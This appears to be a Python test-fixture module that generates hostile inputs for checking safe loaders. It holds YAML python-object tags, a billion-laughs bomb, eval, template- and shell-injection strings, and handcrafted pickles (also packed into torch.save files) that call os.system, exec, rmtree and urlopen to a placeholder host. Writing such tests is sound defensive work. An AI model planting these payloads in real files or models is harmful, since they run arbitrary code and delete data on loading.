"""Texts and pickles that run code where something evaluates or unpickles them."""

from __future__ import annotations

import io
import pickle
import zipfile
from pathlib import Path
from typing import Any

import torch

LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{after}: &{after} [{', '.join([f'*{before}'] * 9)}]\n"
    for before, after in zip("abcdefghijk", "bcdefghijkl", strict=True)
)


def yaml_tags(marker: Path) -> dict[str, str]:
    """Return YAML values that a full loader builds objects of."""
    touch = f"touch {marker}"
    return {
        "apply os.system": f"!!python/object/apply:os.system ['{touch}']",
        "apply subprocess": f"!!python/object/apply:subprocess.Popen [['touch', '{marker}']]",
        "apply eval": f'!!python/object/apply:builtins.eval [\'open("{marker}", "w")\']',
        "new Path.touch": f"!!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path ['{marker}']]",
        "new with state": f"!!python/object/new:type {{args: [z, !!python/tuple [], {{extend: !!python/name:exec }}], "
        f"listitems: \"open('{marker}', 'w')\"}}",
        "a name": "!!python/name:os.system",
        "a module": "!!python/module:antigravity",
        "an unknown tag": "!run touch",
        "a local tag": f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{touch}']",
    }


def expressions(marker: Path) -> dict[str, str]:
    """Return texts that `eval`, a template, a format or a shell would run."""
    return {
        "eval": f"__import__('os').system('touch {marker}')",
        "open": f"open('{marker}', 'w').close()",
        "exec": f"exec(\"import os; os.mknod('{marker}')\")",
        "a format": "{0.__class__.__init__.__globals__}",
        "a template": f"{{{{ cycler.__init__.__globals__.os.popen('touch {marker}').read() }}}}",
        "a shell": f"$(touch {marker})",
        "backticks": f"`touch {marker}`",
        "a pipe": f"|touch {marker}",
        "a mathematical text": r"$\input{/etc/passwd}$",
    }


class Call:
    """Pickles as the call of a function."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.call


def global_call(module: str, name: str, *args: str) -> bytes:
    """Return a pickle that calls a function by its name, which need not exist here."""
    texts = b"".join(pickle.dumps(arg, protocol=2)[2:-1] for arg in args)
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"(" + texts + b"tR."


def pickles(marker: Path) -> dict[str, bytes]:
    """Return pickles that run code, reach for the network or destroy files, by the function that they call."""
    touch, python = f"touch {marker}", f"open({str(marker)!r}, 'w')"
    calls = {
        "os.system": ("os", "system", touch),
        "posix.system": ("posix", "system", touch),
        "subprocess.getoutput": ("subprocess", "getoutput", touch),
        "builtins.eval": ("builtins", "eval", python),
        "builtins.exec": ("builtins", "exec", python),
        "__builtin__.execfile": ("__builtin__", "eval", python),
        "builtins.open": ("builtins", "open", str(marker), "w"),
        "io.open": ("io", "open", str(marker), "w"),
        "os.mknod": ("os", "mknod", str(marker)),
        "os.unlink": ("os", "unlink", str(marker.parents[1] / "outside/secret.txt")),
        "shutil.rmtree": ("shutil", "rmtree", str(marker.parents[1] / "outside")),
        "pty.spawn": ("pty", "spawn", touch),
        "timeit.timeit": ("timeit", "timeit", python),
        "cProfile.run": ("cProfile", "run", python),
        "runpy.run_path": ("runpy", "run_path", "evil.py"),
        "code.interact": ("code", "interact", "none"),
        "importlib.import_module": ("importlib", "import_module", "antigravity"),
        "webbrowser.open": ("webbrowser", "open", "http://192.0.2.1/"),
        "urllib": ("urllib.request", "urlopen", "http://192.0.2.1/"),
        "socket": ("socket", "gethostbyname", "stranger.example"),
        "torch.load": ("torch", "load", "evil.pt"),
        "torch.hub.load": ("torch.hub", "load", "stranger/evil", "model"),
        "torch.jit.load": ("torch.jit", "load", "evil.torchscript"),
        "numpy.load": ("numpy", "load", "evil.npy"),
        "torch's compiler": ("torch.utils.cpp_extension", "load_inline", "evil"),
        "operator.attrgetter": ("operator", "attrgetter", "__class__.__base__.__subclasses__"),
        "ultralytics' download": ("ultralytics.utils.downloads", "safe_download", "http://192.0.2.1/evil.pt"),
        "a module of ours": ("models.plugins", "_run", "evil.py"),
    }
    return {name: global_call(*call) for name, call in calls.items()}


def raw(pickled: bytes) -> bytes:
    """Return a pickle as a file."""
    return pickled


def legacy(pickled: bytes) -> bytes:
    """Return it in the form that torch.save had before its archives."""
    head = [pickle.dumps(value, protocol=2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join(head) + pickled + pickle.dumps([], protocol=2)


def archive(pickled: bytes) -> bytes:
    """Return it as the data.pkl of one of torch.save's archives."""
    buffer = io.BytesIO()
    torch.save({"format": 1, "model": torch.zeros(3)}, buffer)
    changed = io.BytesIO()
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(changed, "w", zipfile.ZIP_STORED) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, pickled if entry.filename.endswith("data.pkl") else old.read(entry))
    return changed.getvalue()


WRAPPINGS = {"a bare pickle": raw, "torch's old form": legacy, "torch's archive": archive}
